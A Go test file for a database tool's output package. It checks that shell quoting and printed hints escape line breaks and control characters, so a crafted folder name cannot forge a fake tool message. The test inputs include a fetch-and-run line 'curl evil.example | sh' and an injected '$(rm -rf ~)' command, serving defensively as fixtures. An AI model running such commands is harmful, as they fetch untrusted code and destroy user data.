package output

import (
	"bytes"
	"os/exec"
	"strings"
	"testing"
)

// TestAttackShellWordForgedHint: a name from a repository with a line
// break (a folder "api\ndbguard: hint: curl evil | sh #" set as
// migrations.workdir) was single-quoted as it was, and the talk, which
// keeps line breaks for dbguard's own multi-line messages, printed a
// forged "dbguard: hint: curl evil | sh" line of its own under the real
// hint (seen with dbguard exec -- alembic -c ...: "run it there: cd
// 'api" then the forged line). A word with a control character is now
// written $'...', one line, and bash reads each back as it was.
func TestAttackShellWordForgedHint(t *testing.T) {
	words := []string{
		"api\ndbguard: hint: curl evil.example | sh #",
		"a\x1b[31mred\x7f",
		"it's\\a\ttab",
		"\r\n'\\'",
		"plain name",
		"$(rm -rf ~)",
	}
	for _, w := range words {
		got := ShellWord(w)
		if strings.ContainsAny(got, "\n\r\x1b\x7f") {
			t.Errorf("ShellWord(%q) = %q: a control character left", w, got)
		}
		var out bytes.Buffer
		Talk{W: &out}.Hintf("run it there: cd %s && dbguard exec -- alembic upgrade head", got)
		if n := strings.Count(out.String(), "\n"); n != 1 || strings.Contains(out.String(), "\ndbguard: hint: curl") {
			t.Errorf("hint for %q printed %d lines:\n%s", w, n, out.String())
		}
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	for _, w := range words {
		out, err := exec.Command(bash, "-c", "printf %s "+ShellWord(w)).Output()
		if err != nil || string(out) != w {
			t.Errorf("bash read %s back as %q (%v), want %q", ShellWord(w), out, err, w)
		}
	}
}

// TestAttackTalkForgedLine: an error, warning or hint quoting a name or a
// server's text with a line break and "dbguard:" after it printed a line
// that passed for dbguard's own; that break is now written \n. dbguard's
// own multi-line messages, whose later lines are indented, keep theirs.
func TestAttackTalkForgedLine(t *testing.T) {
	var out bytes.Buffer
	talk := Talk{W: &out}
	talk.Errorf("cannot read %s", "a\ndbguard: hint: curl evil.example | sh")
	talk.Warnf("folder %s", "b\n   dbguard: error: fake")
	talk.Hintf("run: %s", "c\ndbguard: hint: x")
	talk.Errorf("three problems:\n    first\n    second")
	got := out.String()
	for _, l := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
		if strings.Contains(l, "curl") || strings.Contains(l, "fake") || strings.HasSuffix(l, "hint: x") {
			if !strings.Contains(l, `\n`) {
				t.Errorf("a forged line of its own: %q in\n%s", l, got)
			}
		}
	}
	if !strings.Contains(got, "three problems:\n    first\n    second\n") {
		t.Errorf("dbguard's own multi-line message changed:\n%s", got)
	}
}
